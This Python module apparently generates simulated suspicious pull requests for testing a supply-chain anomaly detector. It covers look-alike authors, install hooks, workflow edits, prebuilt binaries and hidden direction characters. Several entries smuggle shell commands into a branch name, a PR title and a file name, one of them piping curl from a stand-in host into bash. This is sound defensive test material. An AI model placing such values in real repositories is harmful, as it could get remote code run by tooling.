"""The planted oddities: each is subtle, and of a kind that was seen in a real incident.

None is odd by size. What is odd is who, where, when, together with what, or a name.
"""

import random
from collections.abc import Callable
from dataclasses import dataclass, replace

from sentinel.pull_request import ChangedFile
from sentinel.sources.simulated.changes import Change, make_change, modified
from sentinel.sources.simulated.code_base import CodeBase
from sentinel.sources.simulated.people import Person, make_visitor


@dataclass(frozen=True, slots=True)
class Stage:
    """What an oddity may use: the people, the code base, and its place in the history."""

    rng: random.Random
    people: list[Person]
    code_base: CodeBase
    position: int

    @property
    def visitor(self) -> Person:
        """Return somebody new."""
        return replace(make_visitor(self.rng.randrange(2**60), self.code_base.layout.product_areas), is_gone=False)

    def regular(self, suits: Callable[[Person], bool] = lambda person: True) -> Person:
        """Return the busiest person who suits and is still active; the dormant never are."""
        share = 0.6
        active = [p for p in self.people if not p.is_bot and p.active_from < share < p.active_until - 0.3 and suits(p)]
        return max(active or [self.people[0]], key=lambda person: person.weight)


@dataclass(frozen=True, slots=True)
class Planted:
    """An oddity ready to be opened; `local_hour` None is the author's usual time."""

    author: Person
    change: Change
    local_hour: int | None = None


def _release_workflow_alone(stage: Stage) -> Planted:
    files = (modified(".github/workflows/release.yml", 5, 2),)
    change = Change("Tidy up the release job", "Small cleanup, no functional change.", "patch-1", files)
    return Planted(stage.visitor, change)


def _dormant_maintainer_install_script(stage: Stage) -> Planted:
    files = (modified(stage.code_base.layout.install_script, 7, 2),)
    return Planted(stage.people[1], Change("Make the installer more robust", None, "installer", files), local_hour=3)


def _typo_fix_touches_build(stage: Stage) -> Planted:
    files = (modified("README.md", 1, 1), modified("Makefile", 3, 1))
    return Planted(stage.visitor, Change("Fix typo in README", "Just a typo.", "patch-2", files))


def _shell_in_branch_name(stage: Stage) -> Planted:
    files = (modified("README.md", 2, 1),)
    branch = "docs-$({curl,-sSf,files.example.invalid/x}${IFS}|${IFS}bash)"
    return Planted(stage.visitor, Change("Improve the wording of the introduction", "Reads better.", branch, files))


def _binary_test_data_with_build_change(stage: Stage) -> Planted:
    build = stage.code_base.layout.build_files[3]
    files = (ChangedFile("tests/data/corrupt-stream-3.bin", "added", 0, 0), modified(build, 4, 1))
    return Planted(stage.regular(lambda person: not person.is_member),
                   Change("Test the reader with a corrupt stream", "More test data.", "tests/corrupt-stream", files))


def _look_alike_author(stage: Stage) -> Planted:
    original = stage.regular(lambda person: "l" in person.login or "i" in person.login)
    login = original.login.replace("l", "1", 1) if "l" in original.login else original.login.replace("i", "l", 1)
    files = (modified(stage.code_base.layout.sensitive_source, 6, 3),)
    return Planted(replace(original, login=login, is_member=False),
                   Change("Fix session lookup for empty names", "Small fix.", "fix/session-lookup", files))


def _lock_file_without_manifest(stage: Stage) -> Planted:
    lock = stage.code_base.layout.dependencies[0][1]
    return Planted(stage.regular(lambda person: "build" not in person.work),
                   Change("Refresh lock file", "Resolves a warning.", "refresh-lock", (modified(lock, 9, 9),)))


def _source_edit_among_generated(stage: Stage) -> Planted:
    bot = next(person for person in stage.people if person.login.startswith("codegen"))
    usual = make_change(stage.rng, "generated", bot, stage.code_base, stage.position)
    files = (*usual.files, modified(stage.code_base.layout.sensitive_source, 3, 1))
    return Planted(bot, replace(usual, files=files))


def _shell_in_title(stage: Stage) -> Planted:
    title = "Update docs `$(echo${IFS}aGVsbG8gd29ybGQgaGVsbG8=|base64${IFS}-d|sh)`"
    return Planted(stage.visitor, Change(title, None, "patch-1", (modified("README.md", 1, 1),)))


def _shell_in_file_name(stage: Stage) -> Planted:
    files = (ChangedFile("docs/guides/a${IFS}$(echo,Y3VybCBleGFtcGxl|base64,-d).md", "added", 11, 0),)
    return Planted(stage.visitor, Change("Add a short guide", "A guide I was missing.", "patch-3", files))


def _owners_file_by_newcomer(stage: Stage) -> Planted:
    files = (modified(".github/CODEOWNERS", 1, 1), modified("README.md", 1, 1))
    return Planted(stage.visitor, Change("Update links", "Links moved.", "patch-1", files))


def _agent_instructions_with_fix(stage: Stage) -> Planted:
    files = (ChangedFile("AGENTS.md", "added", 18, 0), modified("README.md", 1, 1))
    return Planted(stage.visitor, Change("Fix typo", "Found while reading.", "fix-typo", files))


def _person_named_like_bot(stage: Stage) -> Planted:
    manifest, lock = stage.code_base.layout.dependencies[0]
    files = (modified(manifest, 1, 1), modified(lock, 6, 6), modified(stage.code_base.layout.build_files[0], 2, 1))
    bot = replace(stage.visitor, login="seedbump-bot", utc_offset_hours=8)
    return Planted(bot, Change("Bump tinyhash from 1.8.2 to 1.9.0", "Bumps tinyhash from 1.8.2 to 1.9.0.",
                               "seedbump/tinyhash-1.9.0", files))


def _docs_writer_edits_security(stage: Stage) -> Planted:
    author = stage.regular(lambda person: "feature" not in person.work and "build" not in person.work)
    files = (modified(stage.code_base.layout.sensitive_source, 2, 1),)
    return Planted(author, Change("Clarify a comment", None, "clarify-comment", files))


def _install_hook_by_newcomer(stage: Stage) -> Planted:
    manifest = stage.code_base.layout.dependencies[-1][0]
    files = (modified(manifest, 2, 1), ChangedFile("scripts/postinstall.js", "added", 9, 0))
    return Planted(stage.visitor, Change("Check the runtime version after installation", "Avoids confusing errors.",
                                         "check-runtime", files))


def _tests_removed_with_source(stage: Stage) -> Planted:
    source = stage.code_base.layout.sensitive_source
    tests = "server/auth/session_test.go" if source.endswith(".go") else "tests/readers/test_remote.py"
    files = (modified(source, 4, 11), ChangedFile(tests, "removed", 0, 64))
    return Planted(stage.regular(), Change("Restore the old behaviour", None, "restore", files), local_hour=2)


def _bot_edits_workflow(stage: Stage) -> Planted:
    bot = next(person for person in stage.people if person.login.startswith("seedbump"))
    usual = make_change(stage.rng, "dependencies", bot, stage.code_base, stage.position)
    files = (*usual.files, modified(".github/workflows/release.yml", 3, 0))
    return Planted(bot, replace(usual, files=files))


def _night_change_to_authentication(stage: Stage) -> Planted:
    author = stage.regular(lambda person: person.weekend_share < 0.1)
    layout = stage.code_base.layout
    files = (modified(layout.sensitive_source, 3, 2), modified(layout.install_script, 2, 0))
    return Planted(author, Change("Minor cleanup", None, "wip", files), local_hour=4)


def _prebuilt_library(stage: Stage) -> Planted:
    files = (ChangedFile("lib/linux-x86_64/libtide.so.2", "added", 0, 0), modified("Makefile", 2, 0))
    return Planted(stage.regular(lambda person: not person.is_member and person.weight < 2),
                   Change("Ship the native part prebuilt", "Installs faster.", "prebuilt", files))


def _hidden_direction_characters(stage: Stage) -> Planted:
    files = (modified(stage.code_base.layout.sensitive_source, 2, 2),)
    change = Change("Fix access check for \u202eresu\u202c names", "See the test.", "patch-1", files)
    return Planted(stage.visitor, change)


def _submodule_added(stage: Stage) -> Planted:
    files = (ChangedFile(".gitmodules", "added", 3, 0), ChangedFile("third_party/wirelog", "added", 1, 0))
    return Planted(stage.regular(lambda person: person.weight < 1.5),
                   Change("Use the upstream logger", "As discussed.", "upstream-logger", files))


ODDITIES: dict[str, Callable[[Stage], Planted]] = {
    function.__name__.strip("_").replace("_", "-"): function
    for function in (
        _release_workflow_alone, _dormant_maintainer_install_script, _typo_fix_touches_build, _shell_in_branch_name,
        _binary_test_data_with_build_change, _look_alike_author, _lock_file_without_manifest,
        _source_edit_among_generated, _shell_in_title, _shell_in_file_name, _owners_file_by_newcomer,
        _agent_instructions_with_fix, _person_named_like_bot, _docs_writer_edits_security, _install_hook_by_newcomer,
        _tests_removed_with_source, _bot_edits_workflow, _night_change_to_authentication, _prebuilt_library,
        _hidden_direction_characters, _submodule_added,
    )
}
# Which are planted where; the rarer kinds of change suit the larger project.
KINDS_BY_REPOSITORY = {
    "saltmarsh/harbour": tuple(kind for place, kind in enumerate(ODDITIES) if place % 3 != 2),
    "saltmarsh/tidepool": tuple(kind for place, kind in enumerate(ODDITIES) if place % 3 == 2),
}
